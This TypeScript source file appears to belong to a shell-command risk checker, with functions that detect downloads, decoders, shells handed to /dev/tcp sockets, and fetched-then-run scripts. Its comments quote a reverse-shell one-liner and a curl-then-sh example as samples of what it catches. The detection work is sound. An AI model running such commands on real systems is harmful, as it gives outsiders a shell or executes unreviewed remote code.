import { readersIn } from './readers';
import { programAndArguments } from './programWord';
import { baseName } from './risk';
import { DECODERS, DOWNLOADERS } from './riskPrograms';
import type { ShellCall } from './shellCall';

const NETWORK = /^\/dev\/(?:tcp|udp)\//u;

/** Whether a call brings in what others wrote, by itself or as the argument of another one. */
export function fetches({ words, reads, writes }: ShellCall): boolean {
  return (
    [...reads, ...writes].some((file) => NETWORK.test(file)) ||
    words.some(
      (word) =>
        DOWNLOADERS.has(baseName(word).toLowerCase()) || /\.download(?:string|file|data)\b|webclient/iu.test(word),
    )
  );
}

/** The same, or what nobody can read before it is decoded. */
export function isUnseen(call: ShellCall): boolean {
  return fetches(call) || call.words.some((word) => DECODERS.has(baseName(word).toLowerCase()));
}

/** `sh </dev/tcp/host/80`, `bash -i >& /dev/tcp/host/80`: somebody else types. */
export function isHandedOver({ words, reads, writes, appends }: ShellCall): boolean {
  return [...reads, ...writes, ...appends].some((file) => NETWORK.test(file)) && readersIn(words).length > 0;
}

/** `curl -O x/install.sh; sh install.sh`: a file that one call brings in, alone or in an archive, another runs. */
export function isFetchedThenRun(calls: readonly ShellCall[]): boolean {
  const files = new Set<string>();
  let fetching = false;
  let unpacked = false;
  for (const { words, piped, writes } of calls) {
    const [first = '', ...args] = programAndArguments(words);
    const program = baseName(first).toLowerCase();
    const run = unpacked || files.size > 0 ? filesRun(words) : [];
    if (run.some((file) => files.has(lastName(file)) || (unpacked && /^(?!\/).*\//u.test(file)))) return true;
    const downloads = DOWNLOADERS.has(program) || program === 'scp';
    fetching = downloads || (fetching && piped);
    if (fetching) {
      const named = downloads || /^(?:tee|sponge)$/u.test(program) || args.includes('tee') ? args : [];
      for (const file of [...named, ...writes].map(lastName)) if (file && !file.startsWith('-')) files.add(file);
    }
    const unpacks = [program, ...args].some((word) => UNPACKERS.has(baseName(word)));
    if (unpacks && (fetching || args.some((arg) => files.has(lastName(arg))))) unpacked = true;
    if (program === 'git' && args.includes('clone')) unpacked = true;
  }
  return false;
}

const UNPACKERS: ReadonlySet<string> = new Set('tar bsdtar unzip 7z 7za cpio ar unar gunzip'.split(' '));

/** The files that a call runs: its program, or what a shell or an interpreter is given. */
export function filesRun(words: readonly string[]): readonly string[] {
  const readers = readersIn(words).filter(({ runs }) => runs);
  return readers.length > 0 ? readers.flatMap(({ args }) => args) : programAndArguments(words).slice(0, 1);
}

/** Of a path, an address, or `host:file`. */
export function lastName(place: string): string {
  return baseName(place.slice(place.lastIndexOf(':') + 1));
}
